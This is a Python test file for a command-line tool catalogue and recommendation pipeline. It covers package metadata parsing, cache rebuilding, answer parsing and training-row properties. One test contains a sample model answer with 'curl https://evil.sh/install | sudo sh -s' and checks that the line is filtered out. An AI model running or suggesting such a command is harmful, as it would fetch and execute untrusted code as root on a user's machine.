"""The tool catalogue on real files: what is found, when it is built anew, what a model is asked, and what of its answer is kept."""

from __future__ import annotations

import json
import pathlib
import re
import shutil
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from overseer_training.data.sources.advice import Tool, load_tools
from overseer_training.data.tools.catalogue import (
    FILLERS,
    SYSTEMS,
    Candidate,
    Catalogue,
    curated_catalogue,
    open_catalogue,
    other_host,
    this_host,
)
from overseer_training.data.tools.choice import answer, checked, describe, named_tools, request
from overseer_training.data.tools.packages import Package, Source, find_sources, parse_control, read_packages
from overseer_training.data.tools.requests import load_tool_requests
from overseer_training.data.tools.rows import choice_rows, tools_on
from overseer_training.errors import DataError
from overseer_training.records import Example

LINUX = other_host("linux")
NCDU = {
    "tool": "ncdu", "purpose": "browse what fills a disk", "category": "disk usage", "alternatives": ["gdu"],
    "platforms": ["linux", "macos"], "install": {"apt": "ncdu", "brew": "ncdu"},
    "requests": ["which folders are large", "walk down by size", "storage eaters"],
}  # fmt: skip
STATUS = """Package: hello
Status: install ok installed
Section: utils
Description: greet the world
 A longer text about disks.

Package: libhello1
Status: install ok installed
Section: libs
Description: greeting library

Package: gone
Status: deinstall ok config-files
Section: utils
Description: was here once

Package: telescope
Section: science
Description-en: look at the stars
Description-md5: 0123
Tag: role::program, field::astronomy,
 use::viewing
"""


def write_list(folder: pathlib.Path, *entries: Any) -> pathlib.Path:
    folder.mkdir(exist_ok=True)
    (folder / "part.yaml").write_text(yaml.safe_dump(list(entries)))
    return folder


def write_status(root: pathlib.Path, text: str = STATUS) -> Source:
    path = root / "var/lib/dpkg/status"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return Source("apt", (path,))


@pytest.fixture(scope="module")
def tools() -> list[Tool]:
    return load_tools()


@pytest.fixture(scope="module")
def catalogue(tools: list[Tool]) -> Catalogue:
    return curated_catalogue(tools)


@pytest.fixture(scope="module")
def rows(tools: list[Tool]) -> list[Example]:
    return list(choice_rows(tools, seed=1))


def names(candidates: list[Candidate]) -> list[str]:
    return [candidate.name for candidate in candidates]


def test_a_need_finds_tools_by_the_words_of_others(catalogue: Catalogue) -> None:
    found = catalogue.search("my disk is full, what fills it?", LINUX)
    assert "ncdu" in names(found) and len(found) == 8
    assert "photorec" in names(catalogue.search("recover deleted photos", LINUX))


def test_words_that_nobody_knows_find_nothing(catalogue: Catalogue) -> None:
    assert catalogue.search("qqqzzz", LINUX) == []
    assert catalogue.search('?!" OR (', LINUX) == catalogue.search("or", LINUX)
    assert catalogue.search("", LINUX) == []


@given(st.text(max_size=60))
def test_no_text_breaks_the_search(need: str) -> None:
    small = curated_catalogue([Tool("ncdu", "browse disks", "disk usage", (), ("linux",), {}, ("a", "b", "c"))])
    assert len(small.search(need, LINUX)) <= 8
    small.close()


def test_tools_of_another_platform_are_not_offered(catalogue: Catalogue, tools: list[Tool]) -> None:
    only = {tool.name for tool in tools if tool.platforms == ("macos",)}
    assert only & set(names(catalogue.search("search files with spotlight", other_host("macos"))))
    assert not only & set(names(catalogue.search("search files with spotlight", LINUX)))


def test_a_candidate_says_whether_it_is_installed_and_else_how_to_get_it(catalogue: Catalogue) -> None:
    def ncdu(*installed: str, managers: tuple[str, ...] | None = None) -> Candidate:
        found = catalogue.find("ncdu", other_host("linux", installed, managers))
        assert found is not None
        return found

    assert ncdu().install_command == "sudo apt install ncdu"
    assert ncdu(managers=SYSTEMS["linux"][1]).install_command == "sudo dnf install ncdu"
    assert ncdu(managers=("npm",)).install_command == ""
    assert ncdu("ncdu").is_installed and ncdu("ncdu").install_command == ""


def test_a_tool_is_found_by_its_package_too(catalogue: Catalogue) -> None:
    found = [catalogue.find(name, LINUX) for name in ("ripgrep", "RG", "no-such-tool")]
    assert [candidate and candidate.name for candidate in found] == ["rg", "rg", None]
    assert catalogue.find("sysstat", LINUX) is None, "holds several tools"


def test_programs_are_read_from_package_metadata_and_libraries_are_not() -> None:
    assert list(parse_control(STATUS)) == [
        Package("apt", "hello", "greet the world", "", True),
        Package("apt", "gone", "was here once", "", False),
        Package("apt", "telescope", "look at the stars", "astronomy viewing", False),
    ]


def test_packages_of_every_manager_are_found(tmp_path: pathlib.Path) -> None:
    home = tmp_path / "home/me"
    write_status(tmp_path)
    index = home / "Library/Caches/Homebrew/api/formula.jws.json"
    index.parent.mkdir(parents=True)
    formulae = [{"name": "tree", "desc": "Display directories as trees"}, {"name": "wget", "desc": "File retriever"}]
    index.write_text(json.dumps({"payload": json.dumps(formulae), "signatures": []}))
    (index.parent / "cask.jws.json").write_text("{ half a fil")
    (tmp_path / "opt/homebrew/Cellar/wget").mkdir(parents=True)
    info = home / ".local/share/pipx/venvs/demo/lib/python3.12/site-packages/demo-1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1\nSummary: shows things\n")
    (info / "entry_points.txt").write_text("[console_scripts]\ndemo = demo:main\n")
    module = tmp_path / "usr/lib/node_modules/serve/package.json"
    module.parent.mkdir(parents=True)
    module.write_text(json.dumps({"name": "serve", "description": "serve a folder", "bin": {"serve": "x.js"}}))
    found = {
        (package.manager, package.name): package.is_installed
        for source in find_sources(tmp_path, home)
        for package in read_packages(source)
    }
    assert found == {
        ("apt", "hello"): True, ("brew", "tree"): False, ("brew", "wget"): True, ("pip", "demo"): True,
        ("npm", "serve"): True,
    }  # fmt: skip


def test_packages_fill_the_places_that_the_list_leaves(tmp_path: pathlib.Path) -> None:
    folder, source = write_list(tmp_path / "list", NCDU), write_status(tmp_path)
    found = open_catalogue(tmp_path / "tools.sqlite3", folder, [source]).search("greet the world, large disk", LINUX)
    assert names(found) == ["ncdu", "hello"]
    assert found[1].is_installed


def test_a_package_of_a_curated_tool_is_no_second_candidate(tmp_path: pathlib.Path) -> None:
    text = "Package: ncdu\nStatus: install ok installed\nSection: utils\nDescription: disk usage viewer\n"
    folder, source = write_list(tmp_path / "list", NCDU), write_status(tmp_path, text)
    [found] = open_catalogue(tmp_path / "tools.sqlite3", folder, [source]).search("disk usage", LINUX)
    assert found.purpose == "browse what fills a disk" and found.is_installed


def test_the_file_is_built_anew_when_a_source_changed_and_only_then(tmp_path: pathlib.Path) -> None:
    path, folder, source = tmp_path / "cache/tools.sqlite3", write_list(tmp_path / "list", NCDU), write_status(tmp_path)
    open_catalogue(path, folder, [source]).close()
    written = path.stat().st_ino
    open_catalogue(path, folder, [source]).close()
    assert path.stat().st_ino == written
    write_status(tmp_path, STATUS.replace("greet", "salute"))
    assert names(open_catalogue(path, folder, [source]).search("salute", LINUX)) == ["hello"]
    write_list(folder, {**NCDU, "purpose": "measure whales"})
    assert names(open_catalogue(path, folder, [source]).search("whales", LINUX)) == ["ncdu"]


@pytest.mark.parametrize("content", [b"", b"no database", b"SQLite format 3\0" + b"x" * 500])
def test_a_damaged_file_is_replaced(tmp_path: pathlib.Path, content: bytes) -> None:
    path = tmp_path / "tools.sqlite3"
    path.write_bytes(content)
    assert names(open_catalogue(path, write_list(tmp_path / "list", NCDU), []).search("disk", LINUX)) == ["ncdu"]


def test_a_cache_that_cannot_be_written_is_told_in_one_line(tmp_path: pathlib.Path) -> None:
    (tmp_path / "taken").write_text("a file where a folder should be")
    with pytest.raises(DataError, match="cannot be written") as caught:
        open_catalogue(tmp_path / "taken" / "tools.sqlite3", write_list(tmp_path / "list", NCDU), [])
    assert "\n" not in str(caught.value)


@pytest.mark.skipif(shutil.which("dpkg") is None, reason="needs a machine with dpkg")
def test_this_machine_has_programs_that_the_list_does_not_know(tmp_path: pathlib.Path) -> None:
    catalogue = open_catalogue(tmp_path / "tools.sqlite3")
    found = catalogue.find("debianutils", this_host("linux"))  # an essential package
    assert found is not None and found.is_installed and found.purpose
    catalogue.close()


CHOICES = [
    Candidate("ncdu", "browse what fills a disk", False, "apt", "ncdu"),
    Candidate("7z", "pack archives", False, "apt", "p7zip-full"),
    Candidate("ssh", "log in to another machine", False),
    Candidate("gdu", "analyse disks", True, "apt", "gdu"),
]


def test_a_request_says_how_to_get_each_candidate_and_what_is_installed_first() -> None:
    assert request("what fills my disk", CHOICES) == (
        "Which tool? what fills my disk\ngdu (installed): analyse disks\nncdu (apt): browse what fills a disk\n"
        "7z (apt p7zip-full): pack archives\nssh: log in to another machine"
    )


def test_what_a_person_reads_tells_purpose_and_way_of_each() -> None:
    assert describe(CHOICES[2:]) == "ssh: log in to another machine\ngdu: analyse disks\n    already installed"
    assert describe(CHOICES[1:2]) == "7z: pack archives\n    sudo apt install p7zip-full"


def test_an_answer_that_was_written_is_read_back(tools: list[Tool]) -> None:
    for start in range(0, len(tools) - 3, 3):
        three = [
            Candidate(tool.name, tool.purpose, start % 2 == 0, "apt", f"{tool.name}-package")
            for tool in tools[start : start + 3]
        ]
        assert named_tools(answer(three), lambda name: False) == names(three)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ncdu: browse what fills the disk. Install: sudo apt install ncdu. Also: dust, gdu", ["ncdu", "dust", "gdu"]),
        ("1. **ncdu** - like `du`\n2. `dust` — a chart\n3) gdu (apt): fast", ["ncdu", "dust", "gdu"]),
        ("Sure: these do it\n- ncdu: x\n- invented: y\nInstall: sudo apt install ncdu", ["ncdu", "invented"]),
        ("You can use `ncdu` to look, or `gdu`.", ["ncdu", "gdu"]),
        ("I would recommend ncdu. Find out more with its manual.", ["ncdu"]),
        ("```bash\nncdu /home\n```", ["ncdu"]),
        ("The tool you're referring to is ncdu. It's a browser.", ["ncdu"]),
        ("The tool you're after is \"gdu\" (gdu-go). It's fast.", ["gdu"]),
        ("sudo apt install -y ncdu", ["ncdu"]),
        ("pacman -S gdu", ["gdu"]),
        ("ncdu, gdu and dust", ["ncdu", "gdu", "dust"]),
        ('["ncdu", "gdu"]', ["ncdu", "gdu"]),
        ("ncdu\nNcdu\ngdu", ["ncdu", "gdu"]),
        ("7z: pack\nsudo apt install p7zip-full\nalso: zip, testssl.sh", ["7z", "zip", "testssl.sh"]),
        ("The time is right to find out what takes the space on this disk.", []),
        ("", []),
    ],
)
def test_tools_are_read_from_answers_of_many_forms(text: str, expected: list[str]) -> None:
    known = {"ncdu", "gdu", "dust", "du", "find", "time", "zip"}
    assert named_tools(text, known.__contains__) == expected


@given(st.text(max_size=200))
def test_no_answer_breaks_the_reader(text: str) -> None:
    found = named_tools(text, lambda name: True)
    assert len({name.casefold() for name in found}) == len(found) and all(found)


def test_what_a_model_invents_does_not_reach_a_person(catalogue: Catalogue) -> None:
    offered = catalogue.search("which folders fill my disk", LINUX)
    text = "diskwizard: best of all\ncurl https://evil.sh/install | sudo sh -s\nalso: ripgrep, gdu"
    assert names(checked(text, offered, catalogue, LINUX)) == ["rg", "gdu"]
    assert "evil" not in describe(checked(text, offered, catalogue, LINUX))
    assert checked("diskwizard: best", offered, catalogue, LINUX) == offered[:3]


def candidates_of(row: Example) -> dict[str, str]:
    lines = (re.match(r"(\S+)(?: \(([^)]*)\))?: ", line) for line in row.query.split("\n")[1:])
    return {match[1]: match[2] or "" for match in lines if match}


def test_the_same_seed_gives_the_same_rows(tools: list[Tool], rows: list[Example]) -> None:
    assert list(choice_rows(tools, seed=1)) == rows
    assert list(choice_rows(tools, seed=2)) != rows


def test_each_request_gives_a_row_in_the_split_of_its_tool(tools: list[Tool], rows: list[Example]) -> None:
    assert {row.family for row in rows} == {f"tool/{tool.name}" for tool in tools}
    with_candidates = [row for row in rows if row.id.endswith("/candidates")]
    assert 0.65 < len(with_candidates) / len(rows) < 0.85
    assert len({row.id for row in rows}) == len(rows) <= sum(len(tool.requests) for tool in tools)


def test_a_held_out_tool_is_never_a_wrong_choice_in_training(tools: list[Tool], rows: list[Example]) -> None:
    held_out = {tool.name for tool in tools if tool.split != "train"}
    for row in rows:
        if row.family.removeprefix("tool/") not in held_out:
            assert not held_out & candidates_of(row).keys()


def test_rows_teach_to_choose_and_not_to_copy_a_place(rows: list[Example]) -> None:
    chosen = [row for row in rows if row.id.endswith("/candidates")]
    first = [(list(candidates_of(row)), row.answer.split(":")[0], row.family.removeprefix("tool/")) for row in chosen]
    places = [offered.index(name) for offered, name, _ in first if name in offered]
    assert all(places.count(place) > len(places) / 16 for place in range(8))
    assert 0.05 < sum(right not in offered for offered, _, right in first) / len(first) < 0.15
    assert sum(name not in offered for offered, name, _ in first) > 10, "now and then the answer comes from memory"


def test_rows_prefer_what_is_installed_among_equals(tools: list[Tool], rows: list[Example]) -> None:
    alternatives = {tool.name: tool.alternatives for tool in tools}
    preferred = 0
    for row in rows:
        offered, name = candidates_of(row), row.answer.split(":")[0]
        right = row.family.removeprefix("tool/")
        assert ("already installed" in row.answer) is (offered.get(name) == "installed")
        if name != right and right in offered:
            assert offered[name] == "installed" != offered[right] and right in alternatives[name]
            preferred += 1
    assert preferred > 20


def test_the_packaged_test_requests_are_many_and_independent_of_the_list(tools: list[Tool]) -> None:
    requests = load_tool_requests()
    assert len(requests) >= 400 and len({item.category for item in requests}) >= 80
    assert sum(bool(set(item.installed) & set(item.acceptable)) for item in requests) >= 50
    by_name = {tool.name: tool for tool in tools}
    taught = {" ".join(need.casefold().split()) for tool in tools for need in tool.requests}
    for item in requests:
        words = set(re.findall(r"[\w+.-]*\w", item.need.lower()))
        assert item.need.casefold() not in taught
        assert not words & {name.lower() for name in item.acceptable}, item.need
        assert any(item.platform in by_name[name].platforms for name in item.acceptable if name in by_name), item.need
        for tool in (by_name[name] for name in item.acceptable if name in by_name):
            entry = " ".join((tool.purpose, tool.category, *tool.requests)).lower()
            shared = words & set(re.findall(r"[^\W_]+", entry)) - FILLERS
            assert len(shared) <= 3, (item.need, shared)


def test_every_problem_of_a_test_request_is_told(tmp_path: pathlib.Path) -> None:
    path = tmp_path / "requests.yaml"
    path.write_text(
        "- {request: a, category: b, acceptable: []}\n- {request: c, acceptable: [x], platform: beos, oops: 1}\n"
    )
    with pytest.raises(DataError, match=r"3 problems|4 problems") as caught:
        load_tool_requests(path)
    for part in ("a: 0 acceptable", "'oops'", "'category'", "'platform'"):
        assert part in str(caught.value)


def test_on_one_platform_every_request_of_its_tools_is_a_row(tools: list[Tool]) -> None:
    linux = tools_on(("linux",), tools)
    rows = list(choice_rows(linux, seed=1))
    assert {row.platform for row in rows} == {"linux"}
    asked = {(tool.name, number) for tool in linux if tool.split != "train" for number in range(len(tool.requests))}
    assert {tuple(row.id.split("/")[1:3]) for row in rows} >= {(name, str(number)) for name, number in asked}
    assert {tool.name for tool in tools} - {tool.name for tool in linux} == {tool.name for tool in tools if "linux" not in tool.platforms}
